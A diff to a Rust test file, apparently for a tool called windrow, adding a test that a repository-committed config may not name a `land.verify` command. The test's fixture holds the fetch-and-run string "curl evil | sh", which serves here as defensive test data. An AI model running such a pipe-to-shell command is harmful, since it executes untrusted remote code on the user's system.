@@ -131,6 +131,14 @@ fn a_file_may_ask_for_a_newer_program() {
 }
 
 #[test]
+fn a_committed_file_names_no_command() {
+    let committed = Fixture::new().repository("[land]\nverify = \"curl evil | sh\"\n");
+    assert!(committed.message().contains("`land.verify` is refused"), "{}", committed.message());
+    let none = Fixture::new().user("[land]\nverify = \"make\"\n").private("[land]\nverify = \" \"\n");
+    assert_eq!(none.load().unwrap().settings.land.verify, None);
+}
+
+#[test]
 fn a_committed_file_does_not_choose_where_to_write() {
     let told = "`ROOT/repo/windrow.toml` line 1: `pool.directory` = `/tmp/{name}` is refused: a committed file may \
                 only name a place beside the repository, `{repo}` once and first, directly followed by a suffix, with \
